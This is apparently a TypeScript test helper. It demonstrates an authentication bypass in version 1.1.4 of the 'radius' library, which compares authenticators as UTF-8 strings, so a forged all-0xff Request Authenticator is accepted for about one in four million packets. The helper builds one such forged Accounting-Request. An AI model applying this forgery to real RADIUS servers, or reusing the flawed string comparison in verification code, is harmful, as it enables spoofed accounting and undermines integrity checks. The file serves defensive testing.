import { createHash } from 'node:crypto';
import radius from 'radius';

/** What an attacker sends as the Request Authenticator without knowing the secret. */
export const FORGED_AUTHENTICATOR = Buffer.alloc(16, 0xff);

/**
 * Whether the `radius` library (1.1.4) takes `real` for `sent`: it compares `Buffer.toString()`s, and
 * every byte that is not valid UTF-8 decodes to U+FFFD, so different digests can compare equal.
 */
export function libraryTakesFor(real: Buffer, sent: Buffer): boolean {
  return real.toString() === sent.toString();
}

export interface Forgery {
  /** The Accounting-Request as sent: Request Authenticator ff × 16. */
  packet: Buffer;
  /** Its real Request Authenticator (MD5 over the packet with 16 zero octets and the secret). */
  realAuthenticator: Buffer;
  acctSessionId: string;
  tries: number;
}

/**
 * Searches Acct-Session-Id values (`forge-<hex>`, from `start`) for an Accounting-Request whose real
 * Request Authenticator decodes, as UTF-8, like ff × 16: about 1 in 2^22 candidates. The attacker
 * cannot compute this (no secret): it sends ff × 16 every time and succeeds once in ~4 million packets.
 * The test computes it to build that one packet. The MD5 state over the fixed prefix is computed once
 * and copied for each candidate (~4 s per million on one core); callers pass a known hit as `start`.
 */
export function findForgery(secret: string, fixed: [string, string | number][], start = 0, maxTries = 1 << 26): Forgery {
  const sessionId = (n: number) => `forge-${n.toString(16).padStart(10, '0')}`;
  const attributes = (n: number) => [...fixed, ['Acct-Session-Id', sessionId(n)]];
  const template = radius.encode({ code: 'Accounting-Request', identifier: 77, secret, attributes: attributes(start) });
  template.fill(0, 4, 20);
  const valueLength = sessionId(start).length;
  const prefix = createHash('md5').update(template.subarray(0, template.length - valueLength));
  for (let n = start; n < start + maxTries; n += 1) {
    const digest = prefix.copy().update(sessionId(n)).update(secret).digest();
    if (libraryTakesFor(digest, FORGED_AUTHENTICATOR)) {
      const packet = radius.encode({ code: 'Accounting-Request', identifier: 77, secret, attributes: attributes(n) });
      packet.set(FORGED_AUTHENTICATOR, 4);
      return { packet, realAuthenticator: digest, acctSessionId: sessionId(n), tries: n - start + 1 };
    }
  }
  throw new Error(`no forgery within ${maxTries} candidates from ${start}`);
}

/** A hit for FORGERY_SECRET and FORGERY_ATTRIBUTES (found by findForgery from 0 after 686,454 candidates). */
export const FORGERY_SECRET = 'integrity-e2e-secret-0123';
export const FORGERY_ATTRIBUTES: [string, string | number][] = [['Acct-Status-Type', 'Start'], ['User-Name', 'forge_victim'], ['NAS-Identifier', 'forge-nas']];
export const FORGERY_START = 686453;
